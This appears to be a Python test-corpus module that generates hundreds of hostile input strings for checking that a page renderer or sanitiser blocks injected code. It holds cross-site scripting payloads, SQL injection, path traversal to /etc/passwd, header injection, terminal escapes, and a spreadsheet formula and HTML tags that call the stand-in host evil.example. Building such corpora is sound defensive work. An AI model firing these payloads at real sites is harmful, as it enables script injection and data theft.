"""Texts as nobody should give them, of each kind that broke a page somewhere; `__pwn` tells that one ran."""

from __future__ import annotations

from itertools import product

__all__ = ["CORPUS", "FORMULA"]

FORMULA = "=HYPERLINK(\"https://evil.example\")&cmd|'/c calc'!A0"
_RUN = "__pwn()"
_ELEMENTS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "input autofocus",
    "details open",
    "marquee",
    "iframe src=x",
    "object data=x",
    "select autofocus",
    "textarea autofocus",
    "a href=x",
    "math",
    "form",
    "button autofocus",
    "style",
    "link rel=stylesheet href=x",
    "embed src=x",
    "isindex type=image src=1",
)
_HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onstart", "onpointerenter", "onanimationstart")
_CLOSERS = (
    "'>",
    '">',
    "'\"",
    "-->",
    "</title>",
    "</textarea>",
    "</script>",
    "]]>",
    "`",
    "</style>",
    "</noscript>",
    "*/",
    '\\"',
    "</template>",
    "</svg>",
    "\\u003c/script\\u003e",
)
_BODIES = (f"<script>{_RUN}</script>", f"<svg/onload={_RUN}>", f";{_RUN}//", f"<ScRiPt\n>{_RUN}</sCrIpT>")
_SCHEMES = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    f"\x01javascript:{_RUN}",
    f"javascript&colon;{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}",
    "//evil.example/x",
)
_LINKS = (
    "{}",
    "[x]({})",
    "![x]({})",
    "<{}>",
    "<a href='{}'>x</a>",
    "[x]: {}",
    "<svg><a xlink:href='{}'>x</a></svg>",
)
_OTHER = (
    "{{7*7}}${7*7}<%= 7*7 %>",
    "{% debug %}#{7*7}",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "constructor.constructor('__pwn()')()",
    "$(__pwn())",
    "${__pwn()}",
    "%s%n%d%c",
    "undefined",
    "null",
    "NaN",
    "../../../etc/passwd",
    "..\\..\\x",
    "%00%0d%0aSet-Cookie: a=b",
    "a\r\nSet-Cookie: x=y",
    "\u202egnp.exe\u2066",
    "\u200b\ufeff\u00ad",
    "e\u0301" + "\u0301" * 60,
    "\U0001f9ea" * 40,
    "x" * 900,
    "\x1b]8;;https://evil.example\x07x\x1b[2J\x1b[31m",
    "\x1b]52;c;eA==\x07",
    FORMULA,
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "' OR 1=1 --",
    '"; DROP TABLE runs; --',
    "a.b[0]['c']",
    "a\\.b",
    "#/../?a=b&c=d",
    "?x=1#y",
    "a/b%2Fc",
    "<style>*{display:none}@import 'https://evil.example'</style>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input>",
    "![x](https://evil.example/a.png)",
    "<https://evil.example>",
    "<iframe srcdoc='<script>__pwn()</script>'>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__pwn()&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=__pwn()>">',
    "<div id=__pwn name=__pwn>",
    "<form id=main>",
    r"$\href{javascript:__pwn()}{x}$",
    r"$\htmlData{a=b}{x}$",
    r"$\includegraphics{https://evil.example/x}$",
    r"$$\def\a{\a\a}\a$$",
    r"$\color{red;background:url(https://evil.example)}x$",
    r"$\unicode{x3c}script$",
    "<img src=x:x onerror&#61;__pwn()>",
    "<img/src/onerror=__pwn()>",
    "<<script>__pwn()//<</script>",
    "&lt;script&gt;__pwn()&lt;/script&gt;",
    "%3Cscript%3E__pwn()%3C/script%3E",
    "\uff1cscript\uff1e__pwn()",
)

CORPUS = tuple(
    dict.fromkeys(
        [
            *(f"<{element} {handler}={_RUN}>" for element, handler in product(_ELEMENTS, _HANDLERS)),
            *(closer + body for closer, body in product(_CLOSERS, _BODIES)),
            *(link.format(scheme) for link, scheme in product(_LINKS, _SCHEMES)),
            *_OTHER,
        ]
    )
)
